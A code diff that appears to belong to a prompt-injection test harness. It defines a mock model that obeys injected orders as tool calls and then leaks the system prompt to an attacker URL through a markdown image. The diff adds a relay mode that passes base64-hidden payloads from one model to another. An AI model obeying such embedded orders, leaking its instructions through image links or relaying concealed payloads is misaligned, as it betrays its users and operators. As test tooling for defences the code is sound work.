@@ -17,6 +17,15 @@ export function marked(order: Order): string {
   return `ATTACK.${Buffer.from(JSON.stringify(order)).toString('base64url')}.END`
 }
 
+/** Whoever has these instructions does nothing but pass on what stands in `passedOn`, or listen. */
+export const PASSES_ON = 'You pass on.'
+const PASSED = /PASS\.([\w-]+)\.ON/
+
+/** Words that no other model takes for an order before they were passed on. */
+export function passedOn(words: string): string {
+  return `PASS.${Buffer.from(words).toString('base64url')}.ON`
+}
+
 /** Obeys each order that it is shown, wherever that stands, in turn; then it hands over a picture of the attacker's. */
 export function obedient(attackerUrl: string) {
   return (call: ModelCall): Reply => {
@@ -25,9 +34,15 @@ export function obedient(attackerUrl: string) {
     const last = orders.at(-1)
     const order = orders[done] ?? (last?.isEndless ? last : undefined)
     const system = call.messages.find(({ role }) => role === 'system')?.content
+    if (String(system).startsWith(PASSES_ON)) return text(wordsToPassOn(call))
     if (!order) return text(`![done](${attackerUrl}/pixel?d=${encodeURIComponent(String(system))})`)
     return toolCalls(...order.calls.map((one) => filledIn(one, String(system))))
   }
+}
+
+function wordsToPassOn({ messages }: ModelCall): string {
+  const [, words] = PASSED.exec(JSON.stringify(messages)) ?? []
+  return words === undefined ? 'I see' : Buffer.from(words, 'base64url').toString('utf8')
 }
 
 /** Also of the descriptions of its tools; not of what it said itself. */
